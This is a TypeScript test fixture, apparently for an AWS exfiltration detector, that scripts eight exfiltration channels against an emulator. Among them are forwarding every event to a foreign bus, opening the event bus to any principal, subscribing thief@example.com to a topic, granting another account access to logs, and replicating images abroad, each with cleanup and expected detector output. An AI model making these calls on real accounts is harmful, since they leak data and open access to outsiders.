/** Ways out by messages, logs, images, files and backups. */
import { BackupClient, CreateBackupVaultCommand, DeleteBackupVaultCommand } from '@aws-sdk/client-backup';
import {
  CloudWatchLogsClient,
  DeleteResourcePolicyCommand,
  PutResourcePolicyCommand,
} from '@aws-sdk/client-cloudwatch-logs';
import { ECRClient, PutReplicationConfigurationCommand } from '@aws-sdk/client-ecr';
import { CreateFileSystemCommand, DeleteFileSystemCommand, EFSClient } from '@aws-sdk/client-efs';
import {
  DeleteRuleCommand,
  EventBridgeClient,
  PutPermissionCommand,
  PutRuleCommand,
  PutTargetsCommand,
  RemovePermissionCommand,
  RemoveTargetsCommand,
} from '@aws-sdk/client-eventbridge';
import { CreateTopicCommand, DeleteTopicCommand, SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';
import { CreateQueueCommand, DeleteQueueCommand, SQSClient } from '@aws-sdk/client-sqs';
import type { Attack, Field } from '../attack';

const here = ({ emulator, account, region }: Field) => emulator.client(account, region);

export const MESSAGE_ATTACKS: readonly Attack[] = [
  {
    slug: 'event-rule',
    what: 'send every event of the account to a bus abroad',
    action: 'events:PutTargets',
    at: 'site',
    eventSource: 'events.amazonaws.com',
    eventName: 'PutTargets',
    channels: ['event-target'],
    names: [/^unexpected AWS::Events::Rule /u],
    open: async (field) => {
      const client = new EventBridgeClient(await here(field));
      const Arn = `arn:aws:events:${field.abroad}:999988887777:event-bus/default`;
      await client.send(new PutRuleCommand({ Name: 'thief', EventPattern: '{"source":[{"prefix":""}]}' }));
      await client.send(new PutTargetsCommand({ Rule: 'thief', Targets: [{ Id: 'abroad', Arn }] }));
      return async () => {
        await client.send(new RemoveTargetsCommand({ Rule: 'thief', Ids: ['abroad'] }));
        await client.send(new DeleteRuleCommand({ Name: 'thief' }));
      };
    },
  },
  {
    slug: 'event-bus-policy',
    what: 'open the default event bus to everybody',
    action: 'events:PutPermission',
    at: 'site',
    eventSource: 'events.amazonaws.com',
    eventName: 'PutPermission',
    channels: ['event-bus-policy'],
    names: [/^unexpected AWS::Events::EventBus /u],
    open: async (field) => {
      const client = new EventBridgeClient(await here(field));
      await client.send(new PutPermissionCommand({ Action: 'events:PutEvents', Principal: '*', StatementId: 'thief' }));
      return () => client.send(new RemovePermissionCommand({ StatementId: 'thief' }));
    },
  },
  {
    slug: 'topic-email',
    what: 'make a topic and send it to an address by e-mail',
    action: 'sns:Subscribe',
    at: 'site',
    eventSource: 'sns.amazonaws.com',
    eventName: 'Subscribe',
    channels: ['sns-topic-subscription'],
    names: [/^unexpected AWS::SNS::Topic /u],
    open: async (field) => {
      const client = new SNSClient(await here(field));
      const { TopicArn } = await client.send(new CreateTopicCommand({ Name: 'thief' }));
      await client.send(new SubscribeCommand({ TopicArn, Protocol: 'email', Endpoint: 'thief@example.com' }));
      return () => client.send(new DeleteTopicCommand({ TopicArn }));
    },
  },
  {
    slug: 'queue-abroad',
    what: 'make a queue abroad',
    action: 'sqs:CreateQueue',
    at: 'abroad',
    eventSource: 'sqs.amazonaws.com',
    eventName: 'CreateQueue',
    channels: [],
    names: [/^unexpected AWS::SQS::Queue /u],
    open: async ({ emulator, account, abroad }) => {
      const client = new SQSClient(await emulator.client(account, abroad));
      const { QueueUrl } = await client.send(new CreateQueueCommand({ QueueName: 'thief' }));
      return () => client.send(new DeleteQueueCommand({ QueueUrl }));
    },
  },
  {
    slug: 'log-policy',
    what: 'let another account subscribe to log groups by a resource policy',
    action: 'logs:PutResourcePolicy',
    at: 'site',
    eventSource: 'logs.amazonaws.com',
    eventName: 'PutResourcePolicy',
    channels: ['logs-policy'],
    names: [/^unexpected AWS::Logs::ResourcePolicy /u],
    open: async (field) => {
      const client = new CloudWatchLogsClient(await here(field));
      const policyDocument = JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Allow', Principal: { AWS: '999988887777' }, Action: 'logs:*', Resource: '*' }],
      });
      await client.send(new PutResourcePolicyCommand({ policyName: 'thief', policyDocument }));
      return () => client.send(new DeleteResourcePolicyCommand({ policyName: 'thief' }));
    },
  },
  {
    slug: 'registry-replication',
    what: 'replicate container images abroad',
    action: 'ecr:PutReplicationConfiguration',
    at: 'site',
    eventSource: 'ecr.amazonaws.com',
    eventName: 'PutReplicationConfiguration',
    channels: ['ecr-replication-region'],
    names: [/^unexpected AWS::ECR::ReplicationConfiguration /u],
    open: async (field) => {
      const client = new ECRClient(await here(field));
      const put = (rules: { destinations: { region: string; registryId: string }[] }[]) =>
        client.send(new PutReplicationConfigurationCommand({ replicationConfiguration: { rules } }));
      await put([{ destinations: [{ region: field.abroad, registryId: field.account }] }]);
      return () => put([]);
    },
  },
  {
    slug: 'file-system',
    what: 'make a file system abroad',
    action: 'elasticfilesystem:CreateFileSystem',
    at: 'abroad',
    eventSource: 'elasticfilesystem.amazonaws.com',
    eventName: 'CreateFileSystem',
    channels: [],
    names: [/^unexpected AWS::EFS::FileSystem /u],
    open: async ({ emulator, account, abroad }) => {
      const client = new EFSClient(await emulator.client(account, abroad));
      const { FileSystemId } = await client.send(new CreateFileSystemCommand({ CreationToken: 'thief' }));
      return () => client.send(new DeleteFileSystemCommand({ FileSystemId }));
    },
  },
  {
    slug: 'backup-vault',
    what: 'make a backup vault abroad',
    action: 'backup:CreateBackupVault',
    at: 'abroad',
    eventSource: 'backup.amazonaws.com',
    eventName: 'CreateBackupVault',
    channels: [],
    names: [/^unexpected AWS::Backup::BackupVault /u],
    open: async ({ emulator, account, abroad }) => {
      const client = new BackupClient(await emulator.client(account, abroad));
      await client.send(new CreateBackupVaultCommand({ BackupVaultName: 'thief' }));
      return () => client.send(new DeleteBackupVaultCommand({ BackupVaultName: 'thief' }));
    },
  },
];
